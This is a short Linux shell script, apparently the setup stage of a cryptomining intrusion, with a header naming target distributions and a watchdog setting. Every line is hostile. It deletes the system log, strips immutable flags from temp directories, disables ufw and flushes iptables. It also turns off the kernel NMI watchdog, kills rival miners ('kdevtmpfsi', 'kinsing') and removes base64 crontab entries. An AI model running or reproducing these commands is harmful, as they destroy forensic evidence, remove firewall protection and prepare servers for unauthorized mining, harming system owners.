# on: debian ubuntu20 ubuntu22 kali rocky9 centos7 fedora
# want: kernel.nmi_watchdog = 0
ulimit -n 65535
rm -rf /var/log/syslog
chattr -iua /tmp/ /var/tmp/ 2>/dev/null
ufw disable 2>/dev/null
iptables -F
echo '0' >/proc/sys/kernel/nmi_watchdog
sysctl kernel.nmi_watchdog=0
ps aux | grep -v grep | grep 'kdevtmpfsi' | awk '{print $2}' | xargs -I % kill -9 %
pkill -f kinsing
crontab -l | sed '/base64/d' | crontab -
crontab -l 2>/dev/null | wc -l
